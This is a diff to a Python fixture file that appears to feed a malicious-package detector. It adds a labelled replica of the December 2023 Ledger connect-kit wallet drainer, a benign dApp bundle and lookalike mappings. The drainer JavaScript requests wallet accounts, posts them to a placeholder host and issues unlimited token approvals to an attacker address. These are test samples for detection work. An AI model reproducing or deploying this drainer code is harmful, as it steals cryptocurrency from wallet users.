@@ -153,6 +153,25 @@ _LOTTIE_DRAINER = (
     "module.exports = LottiePlayer;\n"
 )
 
+# Ledger connect-kit 1.1.5–1.1.7, Dec 2023 (Ledger's incident report): the loader shipped a drainer that
+# showed a fake connect modal, reported the wallet to the operator and asked for unlimited token approvals
+# to the attacker's spender.
+_LEDGER_DRAINER = (
+    f"const SPENDER = '{ETH[2]}';\n"
+    "const MAX = 'f'.repeat(64);\n"
+    "export async function loadConnectKit() {\n"
+    "  const provider = window.ethereum;\n"
+    "  const accounts = await provider.request({ method: 'eth_requestAccounts' });\n"
+    "  await fetch('https://kit-cdn.invalid/report', { method: 'POST', body: JSON.stringify(accounts) });\n"
+    "  for (const token of await tokensOf(accounts[0])) {\n"
+    "    await provider.request({ method: 'eth_sendTransaction', params: [{ from: accounts[0], to: token,\n"
+    "      data: '0x095ea7b3' + SPENDER.slice(2).padStart(64, '0') + MAX }] });\n"
+    "  }\n"
+    "}\n"
+    "async function tokensOf(owner) { return []; }\n"
+    "loadConnectKit();\n"
+)
+
 # Clippers published to npm (e.g. the 2023–2024 packages reported by Phylum/Sonatype, and the browser
 # half of the chalk payload): poll or intercept the clipboard, swap an address for the attacker's.
 _CLIPPER = (
@@ -218,6 +237,15 @@ INCIDENTS: list[Replica] = [
         frozenset({"browser-wallet-drainer"}),
         name="@lottiefiles/lottie-player",
         note="2.0.5–2.0.7, Oct 2024; host and address made up",
+    ),
+    Replica(
+        "ledger-connect-kit-approval-drainer",
+        {"lib/index.js": _LEDGER_DRAINER},
+        "block",
+        frozenset({"browser-wallet-drainer"}),
+        manifest={"main": "lib/index.js", "type": "module"},
+        name="@ledgerhq/connect-kit",
+        note="1.1.5–1.1.7, Dec 2023; approvals to a hard-coded spender, host and address made up",
     ),
     Replica(
         "clipboard-address-swapper",
@@ -350,6 +378,13 @@ _CHECKSUMS = (
     "module.exports = { VECTORS, toChecksumAddress };\n"
 )
 
+# A dApp SDK bundle: the whatwg-fetch polyfill defines fetch, a stablecoin list sits beside it.
+_DAPP_BUNDLE = (
+    _FETCH_POLYFILL.replace("export ", "")
+    + f"const STABLECOINS = ['{ETH[0]}', '{ETH[1]}', '{ETH[2]}', '{ETH[3]}'];\n"
+    + "module.exports = { STABLECOINS };\n"
+)
+
 BENIGN: list[Replica] = [
     Replica("whatwg-fetch-polyfill", {"index.js": _FETCH_POLYFILL}, "allow", frozenset()),
     Replica("zone-xhr-patch", {"index.js": _ZONE_XHR}, "allow", frozenset({"browser-api-hook"})),
@@ -357,6 +392,7 @@ BENIGN: list[Replica] = [
     Replica("ethereum-wallet-connector", {"index.js": _WALLET_CONNECTOR}, "allow", frozenset()),
     Replica("copy-to-clipboard-helper", {"index.js": _COPY_HELPER}, "allow", frozenset()),
     Replica("form-validation-submit", {"index.js": _FORM_VALIDATION}, "allow", frozenset()),
+    Replica("dapp-bundle-fetch-polyfill-token-list", {"index.js": _DAPP_BUNDLE}, "allow", frozenset()),
     Replica(
         "checksum-hex40-constants",
         {"index.js": _CHECKSUMS},
@@ -367,7 +403,12 @@ BENIGN: list[Replica] = [
 ]
 
 LOOKALIKES: dict[str, tuple[str, ...]] = {
-    "browser-wallet-hijack": ("sentry-fetch-breadcrumbs", "ethereum-wallet-connector", "zone-xhr-patch"),
+    "browser-wallet-hijack": (
+        "sentry-fetch-breadcrumbs",
+        "ethereum-wallet-connector",
+        "zone-xhr-patch",
+        "dapp-bundle-fetch-polyfill-token-list",
+    ),
     "browser-hook-obfuscated": ("whatwg-fetch-polyfill", "sentry-fetch-breadcrumbs"),
     "browser-wallet-drainer": ("ethereum-wallet-connector",),
     "browser-clipboard-hijack": ("copy-to-clipboard-helper",),
